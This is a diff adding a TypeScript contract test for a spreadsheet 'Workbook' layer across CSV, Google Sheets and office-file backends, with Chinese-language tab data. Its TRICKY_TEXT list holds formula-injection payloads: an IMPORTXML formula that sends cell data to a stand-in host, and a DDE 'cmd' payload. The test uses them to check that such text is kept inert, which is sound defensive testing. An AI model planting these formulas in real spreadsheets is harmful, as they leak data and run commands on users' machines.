@@ -1,0 +1,110 @@
+// The Workbook port's contract, run against every backend (CSV folder, Google Sheets, and the
+// .xlsx / .ods backends through the same function): what a write leaves is what the next read
+// sees; output tabs are replaced whole; of a user's tab only the 檢核結果 cells change; tab
+// names and text survive exactly as typed. Usage, in test/contract/<backend>.contract.test.ts:
+//
+//   workbookContract('CSV folder', { create: (tabs) => …location, open: (location) => Workbook, typedCells: false });
+import { describe, expect, it } from 'vitest';
+import type { Cell, Changes, Tab, Workbook } from '../../shared/workbook.ts';
+
+/** How the contract reaches a backend. */
+export interface ContractBackend {
+  /** Creates a workbook holding these tabs, as a user would have made it; returns its location. */
+  create(tabs: readonly Tab[]): Promise<string>;
+  /** Opens the workbook at a location, as a fresh process would. */
+  open(location: string): Workbook;
+  /** Whether numbers and booleans read back typed (CSV has no cell types: everything reads as text). */
+  readonly typedCells: boolean;
+}
+
+const FORM = '表單回應 1';
+const UNIT_TAB = "It's 填報-民政課";
+const PLAN_TAB = '計畫';
+const TRICKY_TEXT = ['=1+1', '+886 2 2720 8889', '-3天', '@所有人', '=IMPORTXML("https://x.example/?"&A1,"//a")', '=cmd|\'/c calc\'!A1'];
+
+const formTab = (): Tab => ({
+  name: FORM,
+  rows: [
+    ['時間戳記', '填報單位', '具體作法', '執行成效'],
+    ['2026/4/2 上午 9:15:00', '民政課', '2-1', '完成問卷設計'],
+    ['2026/4/3 上午 9:15:00', '社會課'],
+    [],
+    ['2026/4/5 上午 9:15:00', null, '1-1', '第一行\n第二行'],
+  ],
+});
+const unitTab = (): Tab => ({ name: UNIT_TAB, rows: [['填報期間', '辦理狀態', '檢核結果'], ['115年3月', '辦理中', '舊的結果'], ['115年4月', '落後']] });
+const planTab = (): Tab => ({ name: PLAN_TAB, rows: [['項次', '具體作法'], ['1-1', '檢討各項申請表單']] });
+
+/** Registers the contract's tests for one backend. */
+export function workbookContract(name: string, backend: ContractBackend): void {
+  const text = (cell: Cell): Cell => {
+    if (backend.typedCells || cell === null || typeof cell === 'string') return cell;
+    return typeof cell === 'boolean' ? (cell ? 'TRUE' : 'FALSE') : String(cell);
+  };
+  const expected = (rows: readonly (readonly Cell[])[]) => rows.map((row) => row.map(text));
+  const tabsOf = async (workbook: Workbook) => new Map((await workbook.read()).tabs.map((tab) => [tab.name, tab.rows]));
+  const writeAndReopen = async (tabs: readonly Tab[], ...writes: Changes[]) => {
+    const location = await backend.create(tabs);
+    for (const changes of writes) {
+      const workbook = backend.open(location);
+      await workbook.read();
+      await workbook.write(changes);
+    }
+    return tabsOf(backend.open(location));
+  };
+
+  describe(`Workbook contract: ${name}`, () => {
+    it('reads back the tabs it holds, names with spaces, apostrophes and Chinese included', async () => {
+      const tabs = await tabsOf(backend.open(await backend.create([planTab(), formTab(), unitTab()])));
+      expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
+      expect(tabs.get(FORM)).toEqual(formTab().rows);
+      expect(tabs.get(UNIT_TAB)).toEqual(unitTab().rows);
+    });
+
+    it('reads back the output tabs it wrote', async () => {
+      const output = { name: "管考總表 O'Brien", rows: [['項次', '單位', '件數', '已完成'], ['1-1', '民政課', 3, true]] };
+      const tabs = await writeAndReopen([planTab()], { outputs: [output], checks: [] });
+      expect(tabs.get(output.name)).toEqual(expected(output.rows));
+      expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
+    });
+
+    it('replaces an output tab whole: a shorter, narrower run leaves nothing of the longer one', async () => {
+      const long = { name: '執行成效', rows: [['項次', '具體作法', '執行成效', '佐證資料'], ...Array.from({ length: 30 }, (_, i) => [`${i}`, '作法', '成效', 'https://x.example/']), ['最後', '', '', '尾']] };
+      const short = { name: '執行成效', rows: [['項次', '具體作法'], ['1-1', '新的']] };
+      const tabs = await writeAndReopen([planTab()], { outputs: [long], checks: [] }, { outputs: [short], checks: [] });
+      expect(tabs.get('執行成效')).toEqual(short.rows);
+    });
+
+    it('changes only the 檢核結果 cells of a user tab, adding the column where it was missing', async () => {
+      const checks: Changes['checks'] = [
+        { tab: FORM, column: 4, values: ['檢核結果', '通過', '填報單位「社會課」不負責此作法。\n缺少執行成效。', '', '通過（與第2列重複，僅計一次）'] },
+        { tab: UNIT_TAB, column: 2, values: ['檢核結果', '通過'] },
+      ];
+      const tabs = await writeAndReopen([planTab(), formTab(), unitTab()], { outputs: [], checks });
+      expect(tabs.get(FORM)).toEqual([
+        ['時間戳記', '填報單位', '具體作法', '執行成效', '檢核結果'],
+        ['2026/4/2 上午 9:15:00', '民政課', '2-1', '完成問卷設計', '通過'],
+        ['2026/4/3 上午 9:15:00', '社會課', null, null, '填報單位「社會課」不負責此作法。\n缺少執行成效。'],
+        [],
+        ['2026/4/5 上午 9:15:00', null, '1-1', '第一行\n第二行', '通過（與第2列重複，僅計一次）'],
+      ]);
+      // The old result in row 2 is replaced; row 3, past the values, keeps its cells.
+      expect(tabs.get(UNIT_TAB)).toEqual([['填報期間', '辦理狀態', '檢核結果'], ['115年3月', '辦理中', '通過'], ['115年4月', '落後']]);
+      expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
+    });
+
+    it('keeps text that starts with = + - @ as the text it is, in outputs and in 檢核結果', async () => {
+      const output = { name: '檢核錯誤', rows: [['說明'], ...TRICKY_TEXT.map((value) => [value])] };
+      const checks = [{ tab: UNIT_TAB, column: 2, values: ['檢核結果', TRICKY_TEXT[0] ?? '', TRICKY_TEXT[3] ?? ''] }];
+      const tabs = await writeAndReopen([unitTab()], { outputs: [output], checks });
+      expect(tabs.get('檢核錯誤')).toEqual(output.rows);
+      expect(tabs.get(UNIT_TAB)?.map((row) => row[2])).toEqual(['檢核結果', '=1+1', '@所有人']);
+    });
+
+    it('keeps ragged rows and blank rows inside, and drops trailing blank cells and rows', async () => {
+      const output = { name: '單位摘要', rows: [['a', 'b', 'c'], ['d'], [], [null, 'e', null, 'f', null, null], [], [null, null]] };
+      const tabs = await writeAndReopen([planTab()], { outputs: [output], checks: [] });
+      expect(tabs.get('單位摘要')).toEqual([['a', 'b', 'c'], ['d'], [], [null, 'e', null, 'f']]);
+    });
+  });
+}
